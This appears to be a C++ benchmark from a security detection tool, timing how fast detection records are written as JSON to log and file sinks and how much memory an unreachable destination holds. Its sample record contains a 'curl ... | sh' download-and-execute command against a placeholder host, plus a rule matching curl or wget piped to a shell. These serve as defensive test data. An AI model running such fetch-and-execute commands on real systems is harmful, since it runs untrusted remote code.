// SPDX-License-Identifier: Apache-2.0
// Detections per second into a file on one core, made into JSON and written; what a dead place costs in memory.
#include <malloc.h>
#include <sched.h>

#include <cstdio>
#include <filesystem>

#include "runtime/report/report.h"
#include "runtime/sink/shipping.h"
#include "runtime/sink/sink.h"
#include "tests/bench/bench.h"

namespace recipe::bench {
namespace {

constexpr size_t kDetections = 100'000;
constexpr int kRounds = 5;

// Of a shell that ran curl in a CI job: some 1.5 KiB of JSON.
Detection sample() {
  Detection detection;
  detection.time_unix_ns = 1'795'428'000'000'000'001;
  detection.id = uuid_v7(detection.time_unix_ns);
  detection.recipe = "download_and_execute";
  detection.title = "A download is executed";
  detection.message = "sh ran what curl fetched from https://files.example/install.sh";
  detection.category = "execution";
  detection.method = "command_and_scripting_interpreter";
  detection.importance = Importance::kHigh;
  detection.attack = {{"T1059", "Command and Scripting Interpreter", "execution"}};
  detection.tags = {"cicd"};
  detection.why.clause = "process.name in [curl, wget] and argv contains \"|\"";
  detection.why.file = "rules/execution/download_and_execute.recipe";
  detection.event = "exec";
  detection.argv = {"/bin/sh", "-c", "curl -fsSL https://files.example/install.sh | sh"};
  detection.process.pid = detection.process.tid = 4242;
  detection.process.exe = "/usr/bin/dash";
  detection.process.cmdline = "/bin/sh -c curl -fsSL https://files.example/install.sh | sh";
  detection.process.cwd = "/home/runner/work/project/project";
  for (const char* name : {"bash", "Runner.Worker", "Runner.Listener", "systemd"}) {
    ProcessInfo& ancestor = detection.ancestors.emplace_back();
    ancestor.pid = 100;
    ancestor.name = name;
    ancestor.cmdline = std::string("/home/runner/runners/2.320.0/bin/") + name + " spawnclient 120 123";
  }
  detection.host = {"fv-az1234", "0123456789abcdef0123456789abcdef", "6.8.0-1017-azure", "Ubuntu 24.04", "boot"};
  return detection;
}

// This thread, and those that it will start.
class OneCore {
 public:
  OneCore() {
    sched_getaffinity(0, sizeof before_, &before_);
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(sched_getcpu(), &one);
    sched_setaffinity(0, sizeof one, &one);
  }
  ~OneCore() { sched_setaffinity(0, sizeof before_, &before_); }
  OneCore(const OneCore&) = delete;
  OneCore& operator=(const OneCore&) = delete;

 private:
  cpu_set_t before_{};
};

struct Folder {
  std::string path;
  Folder() {
    char name[] = "/tmp/recipe_bench.XXXXXX";
    if (mkdtemp(name) == nullptr) std::abort();
    path = name;
  }
  ~Folder() { std::filesystem::remove_all(path); }
};

std::unique_ptr<Sink> log_sink(const std::string& path, size_t queue_bytes) {
  ShippingOptions options;
  options.name = "the log";
  options.queue_bytes = queue_bytes;
  return std::make_unique<Sink>(make_printer(Format::kJson, {}),
                                make_shipping(make_log_transport(path, {uint64_t{1} << 40, 1}), std::move(options)));
}

// Thousands of detections a second, from the first to the last byte written.
double log_rate(Detection& detection) {
  const Folder folder;
  const OneCore here;
  const auto sink = log_sink(folder.path + "/log", size_t{1} << 32);  // nobody paces it
  const double start = now_seconds();
  for (size_t i = 0; i < kDetections; ++i) {
    detection.sequence = i + 1;
    if (!sink->write(detection).ok()) std::abort();
  }
  if (!sink->close({}).ok()) std::abort();
  return kDetections / (now_seconds() - start) / 1000;
}

double file_rate(Detection& detection) {
  const Folder folder;
  const OneCore here;
  auto sink = make_file_sink(folder.path + "/file", Format::kJson);
  if (!sink.ok()) std::abort();
  const double start = now_seconds();
  for (size_t i = 0; i < kDetections; ++i) {
    detection.sequence = i + 1;
    if (!(*sink)->write(detection).ok()) std::abort();
  }
  if (!(*sink)->close({}).ok()) std::abort();
  return kDetections / (now_seconds() - start) / 1000;
}

// What is refused when 50,000 come each second, a fiftieth every 20 ms, with the bound that the daemon has.
double refused_at_the_rate(Detection& detection) {
  const Folder folder;
  const OneCore here;
  const auto sink = log_sink(folder.path + "/log", ShippingOptions{}.queue_bytes);
  const double start = now_seconds();
  for (int tick = 0; tick < 100; ++tick) {
    for (int i = 0; i < 1000; ++i) (void)sink->write(detection).ok();
    const double wait = start + (tick + 1) * 0.02 - now_seconds();
    if (wait > 0) usleep(static_cast<useconds_t>(wait * 1e6));
  }
  (void)sink->close({}).ok();
  return static_cast<double>(sink->refused());
}

double resident_mib() {
  malloc_trim(0);
  long pages = 0;
  FILE* file = std::fopen("/proc/self/statm", "r");
  if (file == nullptr || std::fscanf(file, "%*s %ld", &pages) != 1) std::abort();
  std::fclose(file);
  return static_cast<double>(pages * sysconf(_SC_PAGESIZE)) / (1 << 20);
}

// What a place that nobody serves holds after a million detections: an hour of 278 a second.
double dead_mib(Detection& detection, bool spool) {
  const Folder folder;
  const double before = resident_mib();
  ShippingOptions options;
  options.name = "nobody";
  options.patience = std::chrono::milliseconds(0);
  if (spool) {
    auto opened = Spool::open(folder.path + "/spool", 64u << 20);
    if (!opened.ok()) std::abort();
    options.spool.emplace(std::move(*opened));
  }
  Sink sink(make_printer(Format::kJson, {}), make_shipping(make_unix_transport(folder.path + "/nobody"), std::move(options)));
  for (size_t i = 0; i < 1'000'000; ++i) {
    detection.sequence = i + 1;
    (void)sink.write(detection).ok();
  }
  const double after = resident_mib();
  (void)sink.close({}).ok();
  return after - before;
}

}  // namespace

void sink_rows() {
  Detection detection = sample();
  std::vector<double> log, file, refused, dead, spooled;
  for (int round = 0; round < kRounds; ++round) {
    log.push_back(log_rate(detection));
    file.push_back(file_rate(detection));
    refused.push_back(refused_at_the_rate(detection));
  }
  for (int round = 0; round < 3; ++round) {
    dead.push_back(dead_mib(detection, false));
    spooled.push_back(dead_mib(detection, true));
  }
  const std::string size = fmt::format("{} bytes of JSON each", to_json(detection).size());
  row("detections into a log: file, one core, " + size, figure(spread(log), "k/s", 1), "≥ 50 k/s");
  row("detections into a FILE, one core, " + size, figure(spread(file), "k/s", 1), "");
  row("refused of 100,000 that came at 50,000/s into log:, one core", figure(spread(refused), "", 0), "0");
  row("memory of a dead place after 1,000,000 detections", figure(spread(dead), "MiB", 1), "queue of 4 MiB");
  row("the same with a spool of 64 MiB", figure(spread(spooled), "MiB", 1), "queue of 4 MiB");
}

}  // namespace recipe::bench
